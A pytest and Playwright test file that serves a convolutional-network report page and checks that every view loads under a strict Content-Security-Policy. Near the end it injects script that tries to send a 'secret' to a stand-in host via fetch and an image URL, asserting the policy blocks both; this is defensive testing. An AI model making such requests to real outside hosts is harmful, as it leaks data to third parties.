"""The page as `open --serve` gives it: every view works under the policy that it is served with."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from example_job import (
    HOSTILE_LABEL,
    HOSTILE_LAYER,
    add_checks,
    add_dreams,
    add_explanations,
    add_kernels,
    add_maps,
    add_neighbours,
    add_network,
    add_others,
    add_patterns,
)

from pipeline.report.page import write_page
from pipeline.stages import STAGES
from pipeline.stages.stage import sections_of

ROOT = Path(__file__).resolve().parents[3]
HOSTILE = quote(HOSTILE_LAYER, safe="")
VIEWS = (
    "#/conv",
    f"#/{HOSTILE}",
    "#/conv/1",
    f"#/{HOSTILE}/1",
    "#/+image/4?by=conv/4",
    "#/+labels",
    "#/+label/dog",
    "#/+find?text=7",
    "#/conv?across=firing&up=strength&show=both",
    *(f"#/+{view}" for view in ("patterns", "kernels", "checks", "fields", "glossary/purity", "explanations", "maps", "dreams")),
    "#/",
)


@pytest.fixture
def address(make_job: Any) -> Iterator[str]:
    """Where a job's page is served, as the command line says it."""
    folder = make_job({"conv": 6, HOSTILE_LAYER: 3}, labels=(HOSTILE_LABEL, "dog", None))
    add_explanations(folder)
    for add in (add_kernels, add_patterns, add_others):
        add(folder, "conv")
    add_dreams(folder)
    add_maps(folder, HOSTILE_LAYER, "conv")
    for add_both in (add_neighbours, add_network):
        add_both(folder, "conv", HOSTILE_LAYER)
    add_checks(folder)
    write_page(folder, sections_of(STAGES.values()))
    served = subprocess.Popen(
        [sys.executable, "-m", "jobs", "open", folder, "--serve", "0"],
        cwd=ROOT,
        env={**os.environ, "BROWSER": "true"},
        stdout=subprocess.PIPE,
        text=True,
    )
    assert served.stdout is not None
    yield served.stdout.readline().split()[1]
    served.terminate()
    served.wait(20)
    served.stdout.close()


def test_every_view_works_under_the_policy_that_the_page_is_served_with(address: str, browser: Any) -> None:
    from playwright.sync_api import expect

    host = urlsplit(address).netloc
    page, wrong = browser.new_page(), []
    page.set_default_timeout(20_000)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("console", lambda message: wrong.append(message.text) if message.type == "error" else None)
    page.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    page.on("requestfailed", lambda request: wrong.append(request.url))
    page.on("response", lambda answer: wrong.append(answer.url) if answer.url[:4] == "http" and answer.status >= 400 else None)
    page.on("request", lambda asked: wrong.append(asked.url) if urlsplit(asked.url).netloc not in ("", host) else None)
    policy = page.goto(address).headers["content-security-policy"]
    assert policy.startswith("default-src 'self'")
    for view in VIEWS:
        page.evaluate("address => { document.title = ''; location.hash = address }", view)
        expect(page).to_have_title(re.compile("convscope$"))
        page.wait_for_load_state("networkidle")
        assert (
            page.evaluate("[...document.images].filter(image => image.complete && !image.naturalWidth).map(image => image.src)")
            == []
        )
    blocked = page.evaluate("""async () => {
        const answers = []
        document.addEventListener('securitypolicyviolation', event => answers.push(event.violatedDirective))
        await fetch('https://elsewhere.example/?secret').catch(() => {})
        new Image().src = 'https://elsewhere.example/secret.png'
        await new Promise(done => setTimeout(done, 50))
        return answers
    }""")
    assert {"connect-src", "img-src"} <= set(blocked)
    page.close()
    assert [text for text in wrong if "elsewhere.example" not in text] == []
